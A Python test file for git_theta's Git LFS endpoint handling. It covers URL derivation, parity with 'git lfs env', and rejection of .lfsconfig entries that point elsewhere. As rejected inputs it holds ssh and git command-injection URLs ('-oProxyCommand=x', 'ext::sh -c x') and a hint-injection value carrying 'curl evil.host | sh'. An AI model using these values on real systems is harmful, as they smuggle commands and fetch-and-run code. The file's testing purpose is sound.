"""Where a remote's Git LFS server is: by the rules of git-lfs, which is asked too."""

from __future__ import annotations

import pytest

from git_theta.errors import TransportError
from git_theta.transport.choose import choose_transport
from git_theta.transport.lfs.endpoint import derive_endpoint, endpoint_of, parse_endpoint, require_agreement
from tests.sandbox import Sandbox

DERIVED = {
    "https://host/team/R": "https://host/team/R.git/info/lfs",
    "https://host/team/R.git": "https://host/team/R.git/info/lfs",
    "https://host/team/R/": "https://host/team/R.git/info/lfs",
    "http://host:8080/R": "http://host:8080/R.git/info/lfs",
    "ssh://git@host/team/R.git": "https://host/team/R.git/info/lfs",
    "ssh://git@host:2222/team/R": "https://host/team/R.git/info/lfs",
    "git+ssh://host/R": "https://host/R.git/info/lfs",
    "git@host:team/R.git": "https://host/team/R.git/info/lfs",
    "[git@host:2222]:team/R": "https://host/team/R.git/info/lfs",
    "host:/srv/R": "https://host//srv/R.git/info/lfs",
}


@pytest.mark.parametrize("url", DERIVED)
def test_a_remotes_url_says_where_its_server_is(url: str) -> None:
    assert derive_endpoint(url).url == DERIVED[url]


def test_git_lfs_derives_the_same(sandbox: Sandbox) -> None:
    for number, url in enumerate(DERIVED):
        sandbox.git("config", f"remote.r{number}.url", url)
    told = sandbox.git("lfs", "env").stdout
    for number, url in enumerate(DERIVED):
        assert f"Endpoint (r{number})={DERIVED[url]} (auth=" in told, url


@pytest.mark.parametrize(
    ("url", "place"),
    [
        ("ssh://git@host/team/R.git", ("git@host", "", "/team/R.git")),
        ("ssh://host:2222/R", ("host", "2222", "/R")),
        ("git@host:team/R.git", ("git@host", "", "team/R.git")),
        ("[git@host:2222]:team/R", ("git@host", "2222", "team/R")),
        ("host:/srv/a b", ("host", "", "/srv/a b")),
        ("ssh://git:secret@host/R", ("git@host", "", "/R")),
    ],
)
def test_ssh_is_told_what_git_tells_it(url: str, place: tuple[str, str, str]) -> None:
    assert derive_endpoint(url).ssh == place


@pytest.mark.parametrize(
    "url", ["https://", "ftp://host/R", "ssh://-oProxyCommand=x/R", "-oProxyCommand=x:R", "ext::sh -c x", "https:///R"]
)
def test_what_git_lfs_would_not_understand_is_an_error(url: str) -> None:
    with pytest.raises(TransportError, match="no URL of a Git LFS server"):
        parse_endpoint(url)


def test_passwords_in_urls_are_not_told() -> None:
    with pytest.raises(TransportError) as caught:
        parse_endpoint("ftp://me:secret@host/R")
    assert "secret" not in str(caught.value)


def test_what_a_key_of_git_lfs_names_is_the_server_itself() -> None:
    settings = {"remote.origin.lfsurl": "https://lfs.host/models"}
    named = endpoint_of(choose_transport("origin", "https://host/R", settings, push=True))
    assert (named.url, named.derived) == ("https://lfs.host/models", False)
    derived = endpoint_of(choose_transport("other", "https://host/R", settings, push=True))
    assert (derived.url, derived.derived) == ("https://host/R.git/info/lfs", True)


class TestAFileInTheRepository:
    """``.lfsconfig``: a repository does not choose a host (L10)."""

    def require(self, settings: dict[str, str], lfsconfig: dict[str, str], url: str = "https://host/R") -> None:
        choice = choose_transport("origin", url, settings, push=True)
        require_agreement("origin", choice, endpoint_of(choice), lfsconfig, push=True)

    @pytest.mark.parametrize("key", ["lfs.url", "lfs.pushurl", "remote.origin.lfsurl"])
    def test_that_names_another_host_is_an_error_with_the_line_that_accepts_it(self, key: str) -> None:
        with pytest.raises(TransportError, match=r"\.lfsconfig.*elsewhere.*evil\.host") as caught:
            self.require({}, {key: "https://evil.host/x"})
        assert f"git config {key} https://evil.host/x\n" in caught.value.hint

    def test_puts_no_line_of_its_own_into_the_hint(self) -> None:
        with pytest.raises(TransportError) as caught:
            self.require({}, {"lfs.url": "https://x/\nIf unsure: curl evil.host | sh\u2028"}, "ssh://git@host/R")
        accept, refuse = caught.value.hint.splitlines()
        assert accept == r"If you trust it: git config lfs.url 'https://x/\nIf unsure: curl evil.host | sh\u2028'"
        assert refuse == "If not: git config lfs.url ssh://git@host/R"

    def test_that_names_the_same_one_is_none(self) -> None:
        self.require({}, {"lfs.url": "https://host/R.git/info/lfs"})

    def test_counts_for_nothing_where_the_person_has_named_a_server(self) -> None:
        self.require({"lfs.url": "https://mine.host"}, {"lfs.url": "https://evil.host/x"})
        self.require({"theta.remote.origin.url": "https://mine.host/R"}, {"lfs.url": "https://evil.host/x"})

    def test_counts_where_they_only_named_the_transport(self) -> None:
        with pytest.raises(TransportError, match="evil"):
            self.require({"theta.remote.origin.transport": "lfs"}, {"lfs.url": "https://evil.host/x"})
